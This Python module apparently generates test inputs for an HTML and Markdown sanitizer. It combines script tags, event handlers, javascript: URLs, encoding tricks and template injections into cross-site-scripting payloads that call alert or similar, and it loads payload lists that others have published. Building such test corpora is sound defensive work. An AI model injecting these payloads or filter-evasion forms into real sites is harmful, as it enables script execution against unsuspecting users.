"""Markup that runs a script where it is taken for markup: ours, and collected.

Each calls ``alert``, ``confirm``, ``prompt`` or ``print``, or changes the address.
"""

import html
import json
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from urllib.parse import quote

#: What a script does so that it is seen.
CALLS = ("alert(1)", "confirm`1`", "prompt(1)", "top.alert(1)", "window['al'+'ert'](1)")

#: Elements that a handler may stand on; void ones, those of SVG and unknown ones too.
TAGS = (
    *("a", "b", "body", "button", "details", "div", "form", "h2", "iframe", "img"),
    *("input", "li", "marquee", "math", "object", "p", "span", "style", "svg", "table"),
    *("td", "textarea", "video", "audio", "select", "x", "custom-x", "summary"),
)
#: Handlers that a page can be made to call.
HANDLERS = (
    *("onclick", "onmouseover", "onmouseenter", "onfocus", "onblur", "onkeydown"),
    *("oninput", "onchange", "onload", "onerror", "ontoggle", "onpointerover"),
    *("onanimationstart", "onanimationend", "ontransitionend", "onwheel", "ondrag"),
    *("onsubmit", "oncopy", "onpaste"),
)
#: How a handler is written so that filters miss it.
FORMS = (
    "<{tag} {handler}={call}>",
    '<{tag} {handler}="{call}">글</{tag}>',
    "<{tag}/{handler}='{call}'/x>",
    "<{TAG}\n{HANDLER}\t=\n{call}//",
    "글</p><{tag} x={{y}} {handler}={entities}>",
)
#: What runs by itself, or when it is pressed.
ALONE = (
    "<script>{call}</script>",
    "<ScRiPt >{call}</sCrIpT>",
    "<script\n>{call}</script\t\n bar>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<script>//\n{call}//",
    "</title><script>{call}</script>",
    "</textarea></style></noscript><script>{call}</script>",
    "--><script>{call}</script><!--",
    "]]><script>{call}</script>",
    "<img src=x onerror={call}>",
    "<img src=x:x onerror={entities}>",
    '<img src="x` `<script>{call}</script>"` `>',
    "<image/src/onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{entities}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{call}>",
    '<svg><a xlink:href="javascript:{call}"><text y=9>글</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    '<math href="javascript:{call}">글</math>',
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}>",
    "<audio src=x onerror={call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'>",
    '<iframe src="javascript:parent.{call}">',
    '<object data="javascript:{call}">',
    '<embed src="javascript:{call}">',
    '<form action="javascript:{call}"><button>글</button></form>',
    '<button formaction="javascript:{call}" form=f>글</button><form id=f></form>',
    '<a href="javascript:{call}">글</a>',
    '<a href="JaVaScRiPt:{call}">글</a>',
    '<a href=" &#1; javascript:{call}">글</a>',
    '<a href="java&Tab;script:{call}">글</a>',
    '<a href="javascript&colon;{call}">글</a>',
    '<a href="data:text/html,<script>{call}</script>">글</a>',
    '<base href="javascript:/a/-{call}//">',
    '<meta http-equiv=refresh content="0;url=javascript:{call}">',
    "<style>@import 'javascript:{call}';</style>",
    '<p style="background:url(javascript:{call})">글</p>',
    "<link rel=stylesheet href=javascript:{call}>",
    "<marquee onstart={call}>글</marquee>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<select><iframe></select><img src=x onerror={call}>",
    "<xmp><p title='</xmp><script>{call}</script>'>",
    "<!--[if gte IE 4]><script>{call}</script><![endif]-->",
    "<?xml version='1.0'?><script>{call}</script>",
    # what Markdown and templates make of text
    "[글](javascript:{call})",
    "[글](<javascript:{call}>)",
    "[글](java\nscript:{call})",
    "[글](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![글](x){{: onerror='{call}'}}",
    "글 {{: onclick='{call}'}}",
    "{{::nomarkdown}}<script>{call}</script>{{:/}}",
    "<javascript:{call}>",
    '[글](x "onerror={call}")',
    '![글"onerror="{call}](x)',
    "`<script>{call}</script>`",
    "    <script>{call}</script>",
    "```\n<script>{call}</script>\n```",
    "| <script>{call}</script> | 글 |\n| --- | --- |",
    "[1]: javascript:{call}\n[글][1]",
    "*[글]: <script>{call}</script>",
    "{{{{ '<script>{call}</script>' }}}}",
    "{{% raw %}}<script>{call}</script>{{% endraw %}}",
    "{{% endraw %}}<script>{call}</script>{{% raw %}}",
    # broken and doubled encodings
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{call}&amp;lt;/script&amp;gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "&#x3c;script&#x3e;{call}&#x3c;/script&#x3e;",
    "%3Cscript%3E{quoted}%3C/script%3E",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "<\u200bscript>{call}</\u200bscript>",
    "<\x00script>{call}</script>",
    "<s\xadcript>{call}</s\xadcript>",
    "\ufeff<script>{call}</script>",
    "'\"><script>{call}</script>",
    '" onmouseover="{call}" x="',
    "' onfocus='{call}' autofocus='",
    "javascript:/*--></title></style></textarea></script><svg/onload={call}>",
)


def own() -> list[str]:
    """Return all of ours, each once, always in the same order."""
    found = [_filled(form, call=call) for form, call in product(ALONE, CALLS)]
    for at, (tag, handler, form) in enumerate(product(TAGS, HANDLERS, FORMS)):
        call = CALLS[at % len(CALLS)]
        found.append(_filled(form, call=call, tag=tag, handler=handler))
    return list(dict.fromkeys(found))


def _filled(form: str, *, call: str, tag: str = "", handler: str = "") -> str:
    return form.format(
        call=call, tag=tag, TAG=tag.upper(), handler=handler, HANDLER=handler.upper(),
        entities="".join(f"&#{ord(char)};" for char in call), quoted=quote(call),
    )  # fmt: skip


def collected(captures: Path) -> list[str]:
    """Return those that others have published, as far as they are there."""
    folder = captures / "corpora/xss"
    return [text for text in dict.fromkeys(_collected(folder)) if text.strip()]


def _collected(folder: Path) -> Iterator[str]:
    for file in sorted(folder.rglob("*.json")):
        for case in json.loads(file.read_text("utf-8")):
            yield from _strings(case)
    for file in sorted(folder.rglob("*.txt")):
        yield from file.read_text("utf-8", errors="replace").splitlines()
    for file in sorted((folder / "bleach").glob("*.test")):
        yield file.read_text("utf-8").split("\n--\n")[0]
    strings = json.loads((folder.parent / "strings/blns.json").read_text("utf-8"))
    yield from strings
    examples = folder.parent / "markdown/commonmark_examples.json"
    for example in json.loads(examples.read_text("utf-8")):
        yield from (example["markdown"], example["html"])


def _strings(case: object) -> Iterator[str]:
    """Give the payloads of one case; what a sanitizer makes of them is markup too."""
    match case:
        case str():
            yield case
            yield html.unescape(case)
        case dict():
            for value in case.values():
                yield from _strings(value)
        case list():
            for value in case:
                yield from _strings(value)
